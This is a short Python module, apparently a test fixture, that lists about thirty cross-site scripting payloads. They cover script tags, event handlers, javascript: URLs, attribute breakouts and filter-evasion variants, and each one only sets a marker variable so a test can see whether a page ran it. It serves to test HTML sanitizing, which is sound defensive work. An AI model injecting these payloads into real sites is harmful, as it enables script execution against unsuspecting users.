"""Texts that run as script, or break out of their place, where a page takes them as markup."""

from __future__ import annotations

MARK = "payload_ran"
PAYLOADS = tuple(
    payload.replace("RUN", f"window.{MARK}=1")
    for payload in (
        "<script>RUN</script>",
        "</script><script>RUN</script>",
        "<img src=x onerror=RUN>",
        "<svg onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<body onload=RUN>",
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
        "<iframe src=javascript:RUN></iframe>",
        "<a href=javascript:RUN>x</a>",
        "<a href='java\tscript:RUN'>x</a>",
        '"><script>RUN</script>',
        "'><script>RUN</script>",
        '" onmouseover=RUN x="',
        '" autofocus onfocus=RUN x="',
        "' onclick=RUN x='",
        "javascript:RUN",
        "JaVaScRiPt:RUN",
        " javascript:RUN",
        "data:text/html,<script>RUN</script>",
        "vbscript:RUN",
        "<math><mi xlink:href=javascript:RUN>x</mi></math>",
        "<details open ontoggle=RUN>",
        "<style>@import 'javascript:RUN'</style>",
        "<link rel=stylesheet href=javascript:RUN>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
        "<base href=javascript:RUN//>",
        "<form action=javascript:RUN><button>x</button></form>",
        "{{ 7 * 7 }}{% raw %}<script>RUN</script>",
        "&lt;script&gt;RUN&lt;/script&gt;<script>RUN</script>",
        "\u202e<script>RUN</script>\u2028\u0000".replace("\u0000", ""),
        "<!--><script>RUN</script>-->",
        "<noscript><p title='</noscript><script>RUN</script>'>",
    )
)
